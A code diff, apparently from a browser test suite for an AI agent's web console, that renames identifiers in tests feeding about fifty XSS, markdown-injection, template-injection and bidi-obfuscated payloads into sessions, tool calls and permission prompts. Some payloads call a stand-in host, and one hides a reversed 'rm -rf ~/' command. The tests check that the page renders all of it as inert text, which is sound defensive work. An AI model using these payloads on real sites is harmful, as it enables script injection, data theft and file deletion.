@@ -1,93 +1,100 @@
 import assert from "node:assert/strict";
 import test, { after } from "node:test";
 import type { Message } from "gantry";
-import { pageUntil, noBrowser, openWindow, sessionUrl, sharedBrowser, startConsole } from "../../helpers/console.js";
-import { call } from "../../helpers/fake-model-server.js";
-import { stream } from "../../helpers/lab.js";
+import {
+  waitForPageState,
+  NO_BROWSER,
+  openWindow,
+  sessionUrl,
+  shareBrowser,
+  startConsole,
+} from "../../helpers/console.js";
+import { callStep } from "../../helpers/fake-model-server.js";
+import { startStreamedRun } from "../../helpers/server-runs.js";
 import { seedSessions } from "../../helpers/seeded-sessions.js";
-import { makeTempDir } from "../../helpers/temp.js";
+import { makeTempDir } from "../../helpers/temp-dir.js";
 
-const browser = sharedBrowser({ after });
+const browser = shareBrowser({ after });
 
-/** Target of a payload's requests. No server exists there; an attempt is enough to fail the test. */
-const EVIL = "http://evil.example";
-/** The effect of a payload's script. */
-const RUN = "document.title='owned'";
+/** Target of a payload's requests. No server exists at this address; an attempt is enough to fail the test. */
+const EVIL_ORIGIN = "http://evil.example";
+/** Code of a payload's script. It changes the title, which the test detects. */
+const SCRIPT_CODE = "document.title='owned'";
 
 /** Known payloads that make a page run foreign code or send requests. */
 const PAYLOADS: readonly string[] = [
   // Plain markup.
-  `<script>${RUN}</script>`,
-  `<script src="${EVIL}/a.js"></script>`,
-  `<img src=x onerror="${RUN}">`,
-  `<img src="${EVIL}/pixel.png">`,
-  `<img srcset="${EVIL}/a.png 1x" src="data:image/png;base64,AAAA">`,
-  `<svg onload="${RUN}"></svg>`,
-  `<svg><script>${RUN}</script></svg>`,
-  `<svg><use href="${EVIL}/a.svg#x"></use><image href="${EVIL}/b.png" /></svg>`,
-  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
-  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>Click</text></a></svg>`,
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
-  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
-  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
-  `<iframe src="${EVIL}/frame"></iframe>`,
-  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
-  `<object data="${EVIL}/o.swf"></object><embed src="${EVIL}/e.swf">`,
-  `<link rel="stylesheet" href="${EVIL}/a.css"><link rel="prefetch" href="${EVIL}/p">`,
-  `<style>@import "${EVIL}/s.css"; body { background: url(${EVIL}/bg.png) }</style>`,
-  `<div style="background:url(${EVIL}/d.png)">styled</div>`,
-  `<base href="${EVIL}/"><a href="x">based</a>`,
-  `<meta http-equiv="refresh" content="0;url=${EVIL}/meta">`,
-  `<form action="${EVIL}/form"><input autofocus onfocus="${RUN}"><button>Go</button></form>`,
-  `<details open ontoggle="${RUN}"><summary>More</summary></details>`,
-  `<video src="${EVIL}/v.mp4" poster="${EVIL}/p.png" autoplay onloadstart="${RUN}"></video>`,
-  `<audio src="${EVIL}/a.mp3" autoplay></audio>`,
-  `<body onload="${RUN}"><marquee onstart="${RUN}">`,
+  `<script>${SCRIPT_CODE}</script>`,
+  `<script src="${EVIL_ORIGIN}/a.js"></script>`,
+  `<img src=x onerror="${SCRIPT_CODE}">`,
+  `<img src="${EVIL_ORIGIN}/pixel.png">`,
+  `<img srcset="${EVIL_ORIGIN}/a.png 1x" src="data:image/png;base64,AAAA">`,
+  `<svg onload="${SCRIPT_CODE}"></svg>`,
+  `<svg><script>${SCRIPT_CODE}</script></svg>`,
+  `<svg><use href="${EVIL_ORIGIN}/a.svg#x"></use><image href="${EVIL_ORIGIN}/b.png" /></svg>`,
+  `<svg><animate onbegin="${SCRIPT_CODE}" attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${SCRIPT_CODE}"><text x=20 y=20>Click</text></a></svg>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SCRIPT_CODE}&gt;">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${SCRIPT_CODE}">`,
+  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT_CODE}>">`,
+  `<iframe src="${EVIL_ORIGIN}/frame"></iframe>`,
+  `<iframe srcdoc="<script>parent.${SCRIPT_CODE}</script>"></iframe>`,
+  `<object data="${EVIL_ORIGIN}/o.swf"></object><embed src="${EVIL_ORIGIN}/e.swf">`,
+  `<link rel="stylesheet" href="${EVIL_ORIGIN}/a.css"><link rel="prefetch" href="${EVIL_ORIGIN}/p">`,
+  `<style>@import "${EVIL_ORIGIN}/s.css"; body { background: url(${EVIL_ORIGIN}/bg.png) }</style>`,
+  `<div style="background:url(${EVIL_ORIGIN}/d.png)">styled</div>`,
+  `<base href="${EVIL_ORIGIN}/"><a href="x">based</a>`,
+  `<meta http-equiv="refresh" content="0;url=${EVIL_ORIGIN}/meta">`,
+  `<form action="${EVIL_ORIGIN}/form"><input autofocus onfocus="${SCRIPT_CODE}"><button>Go</button></form>`,
+  `<details open ontoggle="${SCRIPT_CODE}"><summary>More</summary></details>`,
+  `<video src="${EVIL_ORIGIN}/v.mp4" poster="${EVIL_ORIGIN}/p.png" autoplay onloadstart="${SCRIPT_CODE}"></video>`,
+  `<audio src="${EVIL_ORIGIN}/a.mp3" autoplay></audio>`,
+  `<body onload="${SCRIPT_CODE}"><marquee onstart="${SCRIPT_CODE}">`,
   `<a id="app"></a><form id="timeline" name="body"><input name="children"></form>`,
-  `<template><script>${RUN}</script></template><slot onslotchange="${RUN}">`,
-  `<xss style="animation-name:x" onanimationstart="${RUN}"></xss>`,
-  `<a href="${EVIL}/ping" ping="${EVIL}/pinged">pinged</a>`,
-  `</textarea></title></style></script><img src=x onerror="${RUN}">`,
-  `<scr\u0000ipt>${RUN}</scr\u0000ipt><IMG """><SCRIPT>${RUN}</SCRIPT>">`,
-  `<!--><img src=x onerror="${RUN}">--> <![CDATA[<img src=x onerror="${RUN}">]]>`,
-  `[script](javascript:${RUN})`,
-  `[script](JaVaScRiPt&#58;${RUN})`,
-  `[script](java\tscript:${RUN}) [x](\u0001javascript:${RUN})`,
+  `<template><script>${SCRIPT_CODE}</script></template><slot onslotchange="${SCRIPT_CODE}">`,
+  `<xss style="animation-name:x" onanimationstart="${SCRIPT_CODE}"></xss>`,
+  `<a href="${EVIL_ORIGIN}/ping" ping="${EVIL_ORIGIN}/pinged">pinged</a>`,
+  `</textarea></title></style></script><img src=x onerror="${SCRIPT_CODE}">`,
+  `<scr\u0000ipt>${SCRIPT_CODE}</scr\u0000ipt><IMG """><SCRIPT>${SCRIPT_CODE}</SCRIPT>">`,
+  `<!--><img src=x onerror="${SCRIPT_CODE}">--> <![CDATA[<img src=x onerror="${SCRIPT_CODE}">]]>`,
+  `[script](javascript:${SCRIPT_CODE})`,
+  `[script](JaVaScRiPt&#58;${SCRIPT_CODE})`,
+  `[script](java\tscript:${SCRIPT_CODE}) [x](\u0001javascript:${SCRIPT_CODE})`,
   `[data](data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0nb3duZWQnPC9zY3JpcHQ+)`,
   `[vb](vbscript:x) [file](file:///etc/passwd) [blob](blob:x) [api](/api/sessions) [relative](//evil.example/x)`,
-  `![picture](${EVIL}/markdown.png)`,
+  `![picture](${EVIL_ORIGIN}/markdown.png)`,
   `![picture](/api/sessions?from=markdown)`,
   `![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImRvY3VtZW50LnRpdGxlPSdvd25lZCciLz4=)`,
-  `![x](x"onerror="${RUN})`,
-  `![x][ref]\n\n[ref]: ${EVIL}/reference.png "onload=${RUN}"`,
-  `<javascript:${RUN}> <${EVIL}/auto>`,
-  `[link](${EVIL}/"onmouseover="${RUN})`,
-  `\`\`\`"><img/src=x/onerror=${RUN}>\n<script>${RUN}</script>\n\`\`\``,
-  `\`\`\`html\n<img src="${EVIL}/code.png" onerror="${RUN}"><script>${RUN}</script>\n\`\`\``,
-  `\`\`\`mermaid\nclick A "javascript:${RUN}"\n\`\`\``,
-  `| <img src=x onerror=${RUN}> | b |\n| --- | --- |\n| [x](javascript:${RUN}) | <script>${RUN}</script> |`,
-  `- [x] <img src=x onerror="${RUN}">\n  <svg onload="${RUN}">`,
-  `[^1]: <script>${RUN}</script>\n\n$$<img src=x onerror=${RUN}>$$`,
-  `${"> ".repeat(400)}<img src=x onerror="${RUN}">`,
+  `![x](x"onerror="${SCRIPT_CODE})`,
+  `![x][ref]\n\n[ref]: ${EVIL_ORIGIN}/reference.png "onload=${SCRIPT_CODE}"`,
+  `<javascript:${SCRIPT_CODE}> <${EVIL_ORIGIN}/auto>`,
+  `[link](${EVIL_ORIGIN}/"onmouseover="${SCRIPT_CODE})`,
+  `\`\`\`"><img/src=x/onerror=${SCRIPT_CODE}>\n<script>${SCRIPT_CODE}</script>\n\`\`\``,
+  `\`\`\`html\n<img src="${EVIL_ORIGIN}/code.png" onerror="${SCRIPT_CODE}"><script>${SCRIPT_CODE}</script>\n\`\`\``,
+  `\`\`\`mermaid\nclick A "javascript:${SCRIPT_CODE}"\n\`\`\``,
+  `| <img src=x onerror=${SCRIPT_CODE}> | b |\n| --- | --- |\n| [x](javascript:${SCRIPT_CODE}) | <script>${SCRIPT_CODE}</script> |`,
+  `- [x] <img src=x onerror="${SCRIPT_CODE}">\n  <svg onload="${SCRIPT_CODE}">`,
+  `[^1]: <script>${SCRIPT_CODE}</script>\n\n$$<img src=x onerror=${SCRIPT_CODE}>$$`,
+  `${"> ".repeat(400)}<img src=x onerror="${SCRIPT_CODE}">`,
   // Strings that only some fields interpret as more than text.
-  `javascript:${RUN}`,
-  `\u001b]8;;javascript:${RUN}\u0007link\u001b]8;;\u0007 \u001b[31m<img src=x onerror="${RUN}">\u001b[0m`,
-  `"><img src=x onerror=${RUN}><a href="`,
-  `' autofocus onfocus='${RUN}`,
-  `{{constructor.constructor("${RUN}")()}} \${${RUN}} <%= ${RUN} %>`,
-  `\u202e<script>${RUN}</script>`,
+  `javascript:${SCRIPT_CODE}`,
+  `\u001b]8;;javascript:${SCRIPT_CODE}\u0007link\u001b]8;;\u0007 \u001b[31m<img src=x onerror="${SCRIPT_CODE}">\u001b[0m`,
+  `"><img src=x onerror=${SCRIPT_CODE}><a href="`,
+  `' autofocus onfocus='${SCRIPT_CODE}`,
+  `{{constructor.constructor("${SCRIPT_CODE}")()}} \${${SCRIPT_CODE}} <%= ${SCRIPT_CODE} %>`,
+  `\u202e<script>${SCRIPT_CODE}</script>`,
   `ls \u202e; '~/ fr- mr' \u202c \u2066x\u2069 l\u200bs \u061c\u{e0041} &#x202e;back`,
-  `#code=stolen&<img src=${EVIL}/hash>`,
+  `#code=stolen&<img src=${EVIL_ORIGIN}/hash>`,
 ];
 
 test(
   "payloads in content of models, tools, files and names run no script and send no request",
-  { skip: noBrowser },
+  { skip: NO_BROWSER },
   async (t) => {
     assert.ok(PAYLOADS.length >= 40, `${PAYLOADS.length} payloads`);
     const home = await makeTempDir();
     t.after(() => home.remove());
-    // Each payload in each field with external content.
+    // Puts each payload into each field with external content.
     const ids = await seedSessions(
       home.path,
       PAYLOADS.map((payload) => ({
@@ -95,7 +102,7 @@ test(
         provider: payload,
         model: payload,
         projectDir: `/${payload}`,
-        messages: messagesWith(payload),
+        messages: createMessages(payload),
       })),
     );
     const console = await startConsole(t, { home: home.path });
@@ -107,9 +114,9 @@ test(
       await page.evaluate(`location.hash = ${JSON.stringify(`#/s/${id}`)}`);
       await page.locator(".answer").first().waitFor();
       // Unfold everything, so that all content is rendered.
-      await pageUntil(page, () => page.evaluate<boolean>(UNFOLD));
+      await waitForPageState(page, () => page.evaluate<boolean>(UNFOLD_SCRIPT));
       const findings = await page.evaluate<Record<string, unknown>>(FIND_ACTIVE_CONTENT);
-      assert.deepEqual(findings, CLEAN, payload);
+      assert.deepEqual(findings, NO_FINDINGS, payload);
       assert.deepEqual(faults, [], payload);
     }
     const unexpectedRequests = requests.filter(
@@ -119,55 +126,59 @@ test(
   },
 );
 
-test("payloads in permission requests, questions and model names are shown as text", { skip: noBrowser }, async (t) => {
-  const payload = `<img src=x onerror="${RUN}"><script>${RUN}</script> \u202e; '~/ fr- mr' \u202c l\u200bs`;
-  const home = await makeTempDir();
-  t.after(() => home.remove());
-  const [id = ""] = await seedSessions(home.path, [{ mode: "ask", title: payload }]);
-  const console = await startConsole(t, { home: home.path, models: { models: [payload, "m1"] } });
-  console.models.enqueue(
-    call("write", { filePath: `${payload.replaceAll("/", "")}.txt`, content: payload }),
-    call("bash", { command: "echo safe \u202e; '~/ fr- mr' ohce; #\u202c done", description: payload }),
-    call("ask_user", { question: payload, choices: [payload, "no"] }),
-  );
-  const { page, faults } = await openWindow(t, await browser(), sessionUrl(console, id));
-  await page.evaluate("window.same = true");
-  await page.locator("#prompt").fill(payload);
-  await page.locator("#prompt").press("Enter");
-  await page.locator(".call-waiting").waitFor();
-  assert.deepEqual(await page.evaluate(FIND_ACTIVE_CONTENT), CLEAN);
-  await page.getByRole("button", { name: "Allow", exact: true }).click();
-  const command = page.getByRole("group", { name: "Command" });
-  await command.waitFor();
-  assert.deepEqual(await page.evaluate(FIND_ACTIVE_CONTENT), CLEAN);
-  assert.equal(await command.textContent(), "echo safe \\u202e; '~/ fr- mr' ohce; #\\u202c done");
-  await page.getByRole("button", { name: "Reject", exact: true }).click();
-  await page.locator(".call-waiting", { hasText: "Ask" }).waitFor();
-  assert.deepEqual(await page.evaluate(FIND_ACTIVE_CONTENT), CLEAN);
-  await page.getByRole("button", { name: "no", exact: true }).click();
-  await page.locator(".answer", { hasText: "OK." }).waitFor();
-  assert.deepEqual(await page.evaluate(FIND_ACTIVE_CONTENT), CLEAN);
-  assert.deepEqual(faults, []);
-});
+test(
+  "payloads in permission requests, questions and model names are shown as text",
+  { skip: NO_BROWSER },
+  async (t) => {
+    const payload = `<img src=x onerror="${SCRIPT_CODE}"><script>${SCRIPT_CODE}</script> \u202e; '~/ fr- mr' \u202c l\u200bs`;
+    const home = await makeTempDir();
+    t.after(() => home.remove());
+    const [id = ""] = await seedSessions(home.path, [{ mode: "ask", title: payload }]);
+    const console = await startConsole(t, { home: home.path, models: { models: [payload, "m1"] } });
+    console.models.enqueue(
+      callStep("write", { filePath: `${payload.replaceAll("/", "")}.txt`, content: payload }),
+      callStep("bash", { command: "echo safe \u202e; '~/ fr- mr' ohce; #\u202c done", description: payload }),
+      callStep("ask_user", { question: payload, choices: [payload, "no"] }),
+    );
+    const { page, faults } = await openWindow(t, await browser(), sessionUrl(console, id));
+    await page.evaluate("window.same = true");
+    await page.locator("#prompt").fill(payload);
+    await page.locator("#prompt").press("Enter");
+    await page.locator(".call-waiting").waitFor();
+    assert.deepEqual(await page.evaluate(FIND_ACTIVE_CONTENT), NO_FINDINGS);
+    await page.getByRole("button", { name: "Allow", exact: true }).click();
+    const command = page.getByRole("group", { name: "Command" });
+    await command.waitFor();
+    assert.deepEqual(await page.evaluate(FIND_ACTIVE_CONTENT), NO_FINDINGS);
+    assert.equal(await command.textContent(), "echo safe \\u202e; '~/ fr- mr' ohce; #\\u202c done");
+    await page.getByRole("button", { name: "Reject", exact: true }).click();
+    await page.locator(".call-waiting", { hasText: "Ask" }).waitFor();
+    assert.deepEqual(await page.evaluate(FIND_ACTIVE_CONTENT), NO_FINDINGS);
+    await page.getByRole("button", { name: "no", exact: true }).click();
+    await page.locator(".answer", { hasText: "OK." }).waitFor();
+    assert.deepEqual(await page.evaluate(FIND_ACTIVE_CONTENT), NO_FINDINGS);
+    assert.deepEqual(faults, []);
+  },
+);
 
-test("payloads that stream in pieces leave no active content in the page", { skip: noBrowser }, async (t) => {
+test("payloads that stream in pieces leave no active content in the page", { skip: NO_BROWSER }, async (t) => {
   const console = await startConsole(t);
   const text = PAYLOADS.slice(0, 51).join("\n\n");
-  const pieces = text.match(/[^]{1,7}/gu) ?? [];
-  console.models.enqueue({ say: [{ text: pieces }], pace: 1 });
+  const textPieces = text.match(/[^]{1,7}/gu) ?? [];
+  console.models.enqueue({ say: [{ text: textPieces }], pace: 1 });
   const { page, faults } = await openWindow(t, await browser(), console.url);
   await page.evaluate("window.same = true");
-  const { sessionId, ended } = await stream(console.server, { message: "Say it" });
+  const { sessionId, ended } = await startStreamedRun(console.server, { message: "Say it" });
   await page.goto(sessionUrl(console, sessionId));
   await ended;
   await page.locator(".run-end", { hasText: "tokens" }).waitFor();
   const findings = await page.evaluate<Record<string, unknown>>(FIND_ACTIVE_CONTENT);
-  assert.deepEqual({ ...findings, same: true }, CLEAN);
+  assert.deepEqual({ ...findings, same: true }, NO_FINDINGS);
   assert.deepEqual(faults, []);
 });
 
-/** True if nothing is folded, and an output was shown. */
-const UNFOLD = `(() => {
+/** Script that unfolds all rows. Returns whether nothing is folded and an output is shown. */
+const UNFOLD_SCRIPT = `(() => {
   const folded = [...document.querySelectorAll(".fold[aria-expanded=false]")];
   for (const fold of folded) fold.click();
   // Rows outside the view are not rendered.
@@ -176,11 +187,11 @@ const UNFOLD = `(() => {
 })()`;
 
 /** Result of `FIND_ACTIVE_CONTENT` for a page without findings. */
-const CLEAN = { same: true, owned: false, elements: [], attributes: [], links: [], pictures: [], hidden: [] };
+const NO_FINDINGS = { same: true, owned: false, elements: [], attributes: [], links: [], pictures: [], hidden: [] };
 
 /**
- * Finds content that must not be in the page. `hidden`: texts with reordering characters or, outside prose, invisible
- * ones.
+ * Script that finds content that must not be in the page. `hidden`: texts with reordering characters or, outside prose,
+ * with invisible characters.
  */
 const FIND_ACTIVE_CONTENT = `(() => {
   const all = [...document.body.querySelectorAll("*")];
@@ -202,7 +213,7 @@ const FIND_ACTIVE_CONTENT = `(() => {
   };
 })()`;
 
-function messagesWith(payload: string): Partial<Message>[] {
+function createMessages(payload: string): Partial<Message>[] {
   const input = { filePath: payload, path: payload, command: payload, url: payload, [payload]: payload };
   const tools = ["bash", "edit", "webfetch", payload];
   const calls = tools.map((name, index) => ({
